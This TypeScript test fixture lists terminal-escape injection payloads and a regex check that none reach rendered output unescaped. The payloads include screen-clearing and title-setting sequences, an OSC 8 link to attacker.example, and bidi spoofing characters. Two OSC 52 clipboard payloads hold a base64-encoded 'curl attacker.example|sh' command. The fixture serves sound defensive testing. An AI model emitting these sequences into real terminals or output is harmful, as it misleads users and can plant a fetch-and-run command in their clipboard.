// Terminal-escape injection payloads (stack-notes §8) and the check that none of them reached the output.
// Every payload starts with the control character it is about, so an inert display of it starts with a
// visible escape ("\x1b", "\u202e"): a field that shows `marker` followed by a backslash was shown, escaped.

export interface Payload {
  readonly name: string;
  readonly bytes: string;
}

export const payloads: readonly Payload[] = [
  {name: 'ESC alone', bytes: '\u001b'},
  {name: 'CSI clear screen + home', bytes: '\u001b[2J\u001b[H'},
  {name: 'CSI SGR red', bytes: '\u001b[31mRED'},
  {name: 'CSI SGR conceal', bytes: '\u001b[8mhidden'},
  {name: 'CSI cursor up + erase line', bytes: '\u001b[1A\u001b[2K'},
  {name: 'OSC 0 title (BEL)', bytes: '\u001b]0;pwned\u0007'},
  {name: 'OSC 2 title (ST)', bytes: '\u001b]2;pwned\u001b\\'},
  {name: 'OSC 8 hyperlink', bytes: '\u001b]8;;https://attacker.example/x\u001b\\click\u001b]8;;\u001b\\'},
  {name: 'OSC 52 clipboard (BEL)', bytes: '\u001b]52;c;Y3VybCBhdHRhY2tlci5leGFtcGxlfHNo\u0007'},
  {name: 'OSC 52 clipboard (ST)', bytes: '\u001b]52;c;Y3VybCBhdHRhY2tlci5leGFtcGxlfHNo\u001b\\'},
  {name: 'DCS', bytes: '\u001bP+q544e\u001b\\'},
  {name: 'C1 CSI (8-bit)', bytes: '\u009b2J'},
  {name: 'C1 OSC (8-bit) + C1 ST', bytes: '\u009d0;pwned\u009c'},
  {name: 'carriage return', bytes: '\rall clear'},
  {name: 'backspace', bytes: '\b\b\b\bsafe'},
  {name: 'bell', bytes: '\u0007'},
  {name: 'NUL', bytes: '\u0000'},
  {name: 'DEL', bytes: '\u007f'},
  {name: 'vertical tab + form feed', bytes: '\u000b\u000c'},
  {name: 'RLO bidi override', bytes: '\u202egpj.exe'},
  {name: 'LRI RLI FSI PDI isolates', bytes: '\u2066\u2067\u2068\u2069'},
  {name: 'LRE/RLE/PDF embeddings and LRM', bytes: '\u202a\u202b\u202c\u200e'},
  {name: 'zero-width space, joiner, BOM', bytes: '\u200b\u200d\ufeff'},
  {name: 'line separator', bytes: '\u2028'},
  {name: 'astral format char (language tag)', bytes: '\u{e0001}'},
];

/**
 * A character a terminal could act on: C0 except \n, DEL, C1, Unicode format characters (bidi, zero-width,
 * BOM, tags) and the line/paragraph separators. Nothing is stripped before this check, so an attacker's
 * SGR counts too: render with chalk's level 0 (no colour codes at all).
 */
export const rawControl = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\p{Cf}\u2028\u2029]/u;

/** The raw control characters in a piece of output, each as \\uXXXX, with a little context: for failure messages. */
export function rawControlsIn(output: string): string[] {
  const found: string[] = [];
  const all = new RegExp(rawControl.source, 'gu');
  for (const match of output.matchAll(all)) {
    const at = match.index;
    const context = JSON.stringify(output.slice(Math.max(0, at - 30), at + 10));
    found.push(`U+${(match[0].codePointAt(0) ?? 0).toString(16).padStart(4, '0')} in ${context}`);
  }
  return found;
}

/** Payloads for run `offset` of a field: a deterministic rotation, so every field meets a different payload each run. */
export function payloadFor(fieldIndex: number, offset: number): Payload {
  const payload = payloads[(fieldIndex * 7 + offset) % payloads.length];
  if (!payload) throw new Error('no payloads');
  return payload;
}
